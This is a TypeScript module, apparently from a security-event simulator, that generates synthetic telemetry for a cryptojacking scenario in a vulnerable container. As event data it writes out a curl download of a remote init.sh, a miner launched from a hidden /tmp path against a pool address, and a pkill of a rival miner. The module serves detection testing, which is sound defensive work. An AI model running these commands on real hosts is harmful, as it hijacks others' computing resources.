import { connect } from "../events/network-event.ts";
import { daemon, run } from "../events/process-event.ts";
import type { Container, Process } from "../events/audit-event.ts";
import { listedConnection } from "../events/threat-intel-event.ts";
import type { Host } from "../hosts.ts";
import { ownContainer } from "../routine/container-work.ts";
import { strangerAddress } from "../routine/internet-noise.ts";
import { atHost, wait } from "../scene.ts";
import type { Scene, Script, Stage } from "../scene.ts";
import { MINUTE_MS } from "../../seeded/time.ts";
import { serviceAccount } from "../unix-account.ts";
import { backdrop, momentOf, phase } from "./story.ts";
import type { Story, StoryOptions } from "./story.ts";

interface Cast {
  readonly host: Host;
  readonly container: Container;
  readonly dropIp: string;
  readonly poolIp: string;
  readonly poolPort: number;
  readonly miner: string;
}

const ROOT = serviceAccount("root");

/** A vulnerable service in a container fetches a miner and works for somebody else. */
export function containerMiner({ world, random, start }: StoryOptions): Story {
  const id = "container-miner";
  const image = random.pick([
    "legacy-tomcat:8.5",
    "report-renderer:2.1",
    "struts-demo:latest",
    "spring-admin:1.3",
  ]);
  const cast: Cast = {
    host: random.pick([...world.hostsOf("docker"), ...world.hostsOf("node")]),
    container: {
      id: random.hex(64),
      image,
      labels: { "com.example.service": image.split(":")[0] ?? "" },
    },
    dropIp: strangerAddress(random),
    poolIp: strangerAddress(random),
    poolPort: random.pick([3333, 4444, 5555, 14_444]),
    miner: `/tmp/.${random.pick(["X11", "font", "cache", "java"])}/${random.pick(["kdevtmp", "xmrig", "sysupdate", "watchdogd"])}`,
  };
  const minerAt = start + random.int(6, 20) * MINUTE_MS;
  return {
    outcome: {
      id,
      verdict: "attack",
      summary: `A container of ${image} on ${cast.host.name} runs ${cast.miner} and mines at ${cast.poolIp}`,
      facts: [
        { kind: "host", text: cast.host.name },
        { kind: "object", text: image },
        { kind: "tool", text: cast.miner },
        { kind: "address", text: cast.dropIp },
        { kind: "address", text: cast.poolIp },
        { kind: "user", text: ROOT.user },
        { kind: "time", text: momentOf(minerAt) },
      ],
    },
    activities: [
      backdrop(id, { name: "neighbours", start: start - 40 * MINUTE_MS }, (stage) =>
        runNeighbours(stage, cast.host),
      ),
      phase(id, { name: "exploit", start }, (stage) => exploit(stage, cast)),
      phase(id, { name: "mining", start: minerAt }, (stage) => mine(stage, cast)),
    ],
  };
}

function service(scene: Scene): Process {
  return daemon(scene, "/opt/java/openjdk/bin/java");
}

// The other containers of the machine run their own scripts with the same shell.
function* runNeighbours(stage: Stage, host: Host): Script {
  const scene = atHost(stage, host);
  const neighbours = [ownContainer(stage), ownContainer(stage)];
  const parent = daemon(scene, "/usr/bin/containerd-shim-runc-v2");
  for (let index = 0; index < 36; index += 1) {
    const container = stage.random.pick(neighbours);
    const argv = [
      "sh",
      "-c",
      stage.random.pick(["/app/cron.sh", "/app/rotate.sh", "test -f /app/ready"]),
    ];
    yield* run(scene, { as: ROOT, exe: "/bin/sh", argv, parent, container });
    wait(stage, 20_000, 4 * MINUTE_MS);
  }
}

function* exploit(stage: Stage, { host, container, dropIp }: Cast): Script {
  const scene = atHost(stage, host);
  const base = { as: ROOT, container };
  for (const line of ["id", "uname -a", "cat /proc/cpuinfo"]) {
    const argv = ["sh", "-c", line];
    const shell = yield* run(scene, { ...base, exe: "/bin/sh", argv, parent: service(scene) });
    const words = line.split(" ");
    yield* run(scene, { ...base, exe: `/usr/bin/${words[0]}`, argv: words, parent: shell });
    wait(stage, 4000, 40_000);
  }
  const fetch = ["curl", "-fsSL", `http://${dropIp}/init.sh`, "-o", "/tmp/init.sh"];
  const shell = yield* run(scene, {
    ...base,
    exe: "/bin/sh",
    argv: ["sh", "-c", fetch.join(" ")],
    parent: service(scene),
  });
  const curl = yield* run(scene, { ...base, exe: "/usr/bin/curl", argv: fetch, parent: shell });
  yield connect(scene, {
    ...base,
    process: curl,
    argv: fetch,
    parent: shell,
    remote: { ip: dropIp, port: 80 },
  });
}

function* mine(stage: Stage, cast: Cast): Script {
  const { host, container, poolIp, poolPort, miner } = cast;
  const scene = atHost(stage, host);
  const base = { as: ROOT, container };
  const shell = yield* run(scene, {
    ...base,
    exe: "/bin/sh",
    argv: ["sh", "/tmp/init.sh"],
    parent: service(scene),
  });
  yield* run(scene, {
    ...base,
    exe: "/usr/bin/pkill",
    argv: ["pkill", "-9", "-f", "kinsing"],
    parent: shell,
  });
  wait(stage, 500, 3000);
  const argv = [miner, "-o", `${poolIp}:${poolPort}`, "--donate-level", "1", "-B"];
  const process = yield* run(scene, { ...base, exe: miner, argv, parent: shell, cwd: "/tmp" });
  const list = { source: "emerging-example", reason: "mining pool", type: "miner" };
  for (let index = 0; index < 48; index += 1) {
    const remote = { ip: poolIp, port: poolPort };
    yield connect(scene, { ...base, process, argv, parent: shell, remote });
    if (index % 16 === 0) {
      yield listedConnection(scene, {
        as: ROOT,
        process,
        ip: poolIp,
        port: poolPort,
        direction: "outbound",
        list,
      });
    }
    wait(stage, 20_000, 4 * MINUTE_MS);
  }
}
